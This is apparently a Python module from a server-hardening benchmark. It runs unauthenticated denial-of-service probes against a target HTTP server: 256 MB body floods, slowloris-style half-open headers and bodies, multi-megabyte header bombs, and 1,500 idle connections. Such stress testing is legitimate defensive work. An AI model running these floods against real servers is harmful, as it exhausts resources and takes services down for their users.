"""What anybody can send without a credential: floods of bodies, slow and large heads, many connections."""

from __future__ import annotations

import contextlib
import socket
import time
from collections import Counter
from collections.abc import Iterator

from bench.attack.victim import Victim, answer_of

MB = 1024 * 1024


def body_flood(victim: Victim, size: int = 256 * MB) -> Iterator[str]:
    """A body of `size`, with its length announced and in chunks."""
    for path in ("/login", "/healthz", "/v1/token"):
        yield f"POST {path}, {_flood(victim, path, size, chunked=False)}"
        yield f"POST {path} in chunks, {_flood(victim, path, size, chunked=True)}"


def _flood(victim: Victim, path: str, size: int, *, chunked: bool) -> str:
    length = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {size}"
    block = bytes(MB)
    part = b"%x\r\n%s\r\n" % (len(block), block) if chunked else block
    began, sent = time.monotonic(), 0
    with victim.connect() as connection, contextlib.suppress(OSError):
        connection.sendall(f"POST {path} HTTP/1.1\r\nHost: {victim.host}\r\n{length}\r\n\r\n".encode())
        with contextlib.suppress(OSError):
            while sent < size:
                connection.sendall(part)
                sent += len(block)
            if chunked:
                connection.sendall(b"0\r\n\r\n")
        return f"{sent // MB} MB taken, answer {answer_of(connection)} after {time.monotonic() - began:.1f} s"
    return "no connection"


def slow_heads(victim: Victim, count: int = 200, seconds: float = 30) -> Iterator[str]:
    """Heads, and bodies, that are begun and never ended."""
    for what, start in (
        ("heads", b"GET /login HTTP/1.1\r\nHost: x\r\nX-A: "),
        ("bodies", b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\na"),
    ):
        opened = [victim.connect() for _ in range(count)]
        for each in opened:
            each.sendall(start)
        deadline = time.monotonic() + seconds
        ends = Counter(answer_of(each, max(deadline - time.monotonic(), 0.01)) for each in opened)
        for each in opened:
            each.close()
        yield f"{count} half {what} after {seconds:.0f} s: {dict(ends)} (none: still open)"


def header_bombs(victim: Victim) -> Iterator[str]:
    """Headers of 2 MB, in one field and in many."""
    for what, headers in (
        ("one header of 2 MB", b"X-A: " + b"a" * 2 * MB + b"\r\n"),
        ("1,000 headers", b"".join(b"X-%d: a\r\n" % number for number in range(1000))),
        ("a target of 1 MB", b""),
    ):
        target = b"/login" + (b"" if headers else b"?" + b"a" * MB)
        with victim.connect() as connection:
            with contextlib.suppress(OSError):
                connection.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: x\r\n" + headers + b"\r\n")
            yield f"{what}: {answer_of(connection)}"


def many_connections(victim: Victim, count: int = 1500) -> Iterator[str]:
    """Connections from one address that are opened and do nothing; then one honest request."""
    opened: list[socket.socket] = []
    with contextlib.suppress(OSError):
        opened.extend(victim.connect(5) for _ in range(count))
    time.sleep(1)
    closed = sum(_is_closed(each) for each in opened)
    try:
        honest = victim.request("GET", "/login")
    except OSError as error:
        honest = type(error).__name__
    for each in opened:
        each.close()
    yield f"{len(opened)} opened, {closed} closed at once; one more is answered {honest}"


def _is_closed(connection: socket.socket) -> bool:
    connection.settimeout(0)
    try:
        return connection.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def idle_connection(victim: Victim, seconds: float = 65) -> Iterator[str]:
    """No attack: how long a client's idle connection lives."""
    with victim.connect() as connection:
        connection.sendall(f"GET /healthz HTTP/1.1\r\nHost: {victim.host}\r\n\r\n".encode())
        answer_of(connection)
        began = time.monotonic()
        connection.settimeout(seconds)
        try:
            while connection.recv(4096):
                pass
            yield f"closed after {time.monotonic() - began:.0f} s"
        except TimeoutError:
            yield f"open after {seconds:.0f} s"
